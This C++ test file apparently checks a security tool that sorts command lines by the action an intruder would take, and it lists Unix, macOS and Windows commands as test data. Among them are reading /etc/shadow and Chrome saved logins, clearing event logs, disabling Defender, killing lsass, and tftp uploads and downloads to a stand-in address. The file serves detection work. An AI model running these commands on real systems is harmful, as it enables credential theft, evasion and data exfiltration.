// Tools besides those that the advisories name, each with the use that matters.

#include <gtest/gtest.h>

#include <span>

#include "command/reading_testing.h"

namespace landwarden::command {
namespace {

struct Line {
  std::string_view action, line;
};

void expect_all(std::span<const Line> lines, Origin origin) {
  for (const Line& line : lines) {
    const Reading reading = read(Input{.line = line.line, .origin = origin});
    EXPECT_TRUE(reading.has(line.action)) << line.line << " is " << reading.main;
  }
}

TEST(FurtherTools, OfUnix) {
  constexpr Line kLines[] = {
      {"process_memory_dump", R"x(gcore -o /tmp/x 1234)x"},
      {"process_memory_dump", R"x(gdb -p 1234 -batch -ex "generate-core-file /tmp/c")x"},
      {"raw_disk_read", R"x(debugfs -R "cat /etc/shadow" /dev/sda1)x"},
      {"port_proxy_add", R"x(firewall-cmd --add-forward-port=port=80:proto=tcp:toport=8080 --permanent)x"},
      {"firewall_rule_add", R"x(firewall-cmd --zone=public --add-port=9999/tcp)x"},
      {"firewall_show", R"x(firewall-cmd --list-all)x"},
      {"tunnel_open", R"x(openvpn --config /tmp/x.ovpn)x"},
      {"remote_desktop_start", R"x(xfreerdp /v:10.20.0.9 /u:op7)x"},
      {"upload", R"x(lftp -u a,b ftp.example)x"},
      {"directory_query", R"x(ldapsearch -H ldap://dc01 -x -b dc=works)x"},
      {"account_list", R"x(getent passwd)x"},
      {"group_list", R"x(getent group sudo)x"},
      {"account_change", R"x(ssh-copy-id -i k op7@fs02)x"},
      {"eventlog_clear", R"x(journalctl --vacuum-time=1s)x"},
      {"eventlog_clear", R"x(dmesg -C)x"},
      {"eventlog_read", R"x(journalctl -u ssh)x"},
      {"group_member_add", R"x(gpasswd -a op7 sudo)x"},
      {"network_config_change", R"x(sysctl -w net.ipv4.ip_forward=1)x"},
      {"system_info", R"x(sysctl -a)x"},
      {"keychain_read",
       R"x(sqlite3 "/Users/op7/Library/Application Support/Google/Chrome/Default/Login Data" "select * from logins")x"},
      {"protection_disable", R"x(tccutil reset All)x"},
      {"download", R"x(nscurl -o /tmp/x https://203.0.113.9/x)x"},
      {"share_create", R"x(sharing -a /Users/Public)x"},
      {"remote_desktop_enable", R"x(systemsetup -setremotelogin on)x"},
      {"account_list", R"x(dscacheutil -q user)x"},
      {"group_list", R"x(dscacheutil -q group -a name admin)x"},
  };
  expect_all(kLines, Origin::unix);
}

TEST(FurtherTools, OfWindows) {
  constexpr Line kLines[] = {
      {"recovery_disable", R"x(reagentc.exe /disable)x"},
      {"protection_disable", R"x(dism /online /Disable-Feature /FeatureName:Windows-Defender /NoRestart)x"},
      {"protection_disable", R"x(wusa /uninstall /kb:5000802 /quiet)x"},
      {"remote_desktop_start", R"x(tscon 2 /dest:rdp-tcp#0)x"},
      {"policy_show", R"x(secedit /export /cfg C:\x.inf)x"},
      {"eventlog_disable", R"x(logman stop EventLog-System -ets)x"},
      {"wmi_process_create_remote",
       R"x(winrm invoke Create wmicimv2/Win32_Process -r:FS02 @{CommandLine="cmd"})x"},
      {"port_scan", R"x(PortQry.exe -n 10.20.0.9 -e 445)x"},
      {"eventlog_clear", R"x(psloglist -c security)x"},
      {"directory_export", R"x(ADExplorer.exe -snapshot "" C:\x.dat)x"},
      {"process_kill", R"x(pskill \\FS02 lsass)x"},
      {"file_delete", R"x(sdelete64 -p 3 C:\x)x"},
      {"upload", R"x(tftp 203.0.113.9 put C:\x)x"},
      {"download", R"x(tftp -i 203.0.113.9 get x.exe)x"},
      {"code_load", R"x(pnputil /add-driver x.inf /install)x"},
  };
  expect_all(kLines, Origin::process);
}

}  // namespace
}  // namespace landwarden::command
